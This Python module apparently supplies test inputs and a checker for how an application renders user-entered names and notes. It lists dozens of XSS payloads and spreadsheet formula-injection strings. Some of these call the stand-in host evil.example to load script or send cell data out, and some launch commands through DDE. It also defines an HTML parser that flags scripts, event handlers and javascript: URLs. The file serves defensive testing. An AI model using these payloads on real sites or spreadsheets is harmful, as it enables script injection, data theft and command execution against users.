"""What people write into names and notes when they mean harm."""

from html.parser import HTMLParser

_CODE = "alert(1)"
XSS: tuple[str, ...] = (
    f"<script>{_CODE}</script>",
    f"<SCRIPT>{_CODE}</SCRIPT>",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"<script src=//evil.example/x.js></script>{_CODE}",
    f"<script/x>{_CODE}</script>",
    f"<script\n>{_CODE}</script\n>",
    f"</script><script>{_CODE}</script>",
    f"</title><script>{_CODE}</script>",
    f"</textarea><script>{_CODE}</script>",
    f"</style><script>{_CODE}</script>",
    f"--><script>{_CODE}</script>",
    f"]]><script>{_CODE}</script>",
    f"<!--<img src='--><img src=x onerror={_CODE}>",
    f"<img src=x onerror={_CODE}>",
    f"<img src=x onerror='{_CODE}'>",
    f'<img src="x" onerror="{_CODE}">',
    f"<img/src=x/onerror={_CODE}>",
    f"<IMG SRC=x OnErRoR={_CODE}>",
    f"<img src=x\tonerror={_CODE}>",
    f"<img src=x\nonerror={_CODE}>",
    f"<svg onload={_CODE}>",
    f"<svg/onload={_CODE}>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CODE}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CODE}>'/></svg>",
    f"<math><a xlink:href='javascript:{_CODE}'>x</a></math>",
    f"<body onload={_CODE}>",
    f"<iframe src=javascript:{_CODE}>",
    f"<iframe srcdoc='<script>{_CODE}</script>'>",
    f"<object data=javascript:{_CODE}>",
    f"<embed src=javascript:{_CODE}>",
    f"<a href=javascript:{_CODE}>x</a>",
    f"<a href='java\tscript:{_CODE}'>x</a>",
    f"<a href=&#106;avascript:{_CODE}>x</a>",
    f"<form action=javascript:{_CODE}><button>x</button></form>",
    f"<button formaction=javascript:{_CODE}>x</button>",
    f"<input autofocus onfocus={_CODE}>",
    f"<details open ontoggle={_CODE}>x</details>",
    f"<video><source onerror={_CODE}></video>",
    f"<audio src=x onerror={_CODE}>",
    f"<marquee onstart={_CODE}>x</marquee>",
    f"<select autofocus onfocus={_CODE}>",
    f"<base href='javascript:{_CODE}//'>",
    f"<link rel=stylesheet href='javascript:{_CODE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CODE}'>",
    f"<template><script>{_CODE}</script></template>",
    f'" onmouseover="{_CODE}',
    f"' onmouseover='{_CODE}",
    f"` onmouseover=`{_CODE}",
    f'" autofocus onfocus={_CODE} x="',
    f"x onmouseover={_CODE}",
    f"javascript:{_CODE}",
    f"&lt;script&gt;{_CODE}&lt;/script&gt;",
    f"&#60;script&#62;{_CODE}",
    f"\\u003cscript\\u003e{_CODE}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CODE}%3C/script%3E",
    f"＜script＞{_CODE}＜/script＞",
    "{{7*7}}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"\ufeff<script>{_CODE}</script>",
)

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u3000＝1+1",
    '"=1+1"',
    "=1+1\";=2+2",
    "x\n=1+1",
    "x,=1+1",
    'x",=1+1,"',
    "=\u200b1+1",
    "|calc",
)  # fmt: skip

_RUNS = ("javascript:", "vbscript:", "data:text/html", "data:image/svg+xml")
_OPENED = {"href", "xlink:href", "src", "srcset", "action", "data", "poster", "background", "ping"}
_CARRIERS = {"iframe", "object", "embed", "base", "frame", "applet", "portal"}


class Active(HTMLParser):
    """Collects what a browser would run or load in a page: nothing but our own files may be there.

    Attributes
    ----------
    scripts : list of str
        Addresses of scripts; an inline one as ``inline``.
    found : list of str
        Handlers, addresses that run, elements that carry foreign pages.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what the element would do."""
        given = {name.lower(): value or "" for name, value in attrs}
        if tag == "script":
            self.scripts.append(given.get("src", "inline"))
        if tag in _CARRIERS or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            plain = "".join(value.split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.found.append(f"{tag} {name}")
            if name in _OPENED and plain.startswith(_RUNS):
                self.found.append(f"{tag} {name}={value[:40]}")

    handle_startendtag = handle_starttag


def active(page: str) -> Active:
    """Return what would run in ``page``."""
    found = Active()
    found.feed(page)
    found.close()
    return found
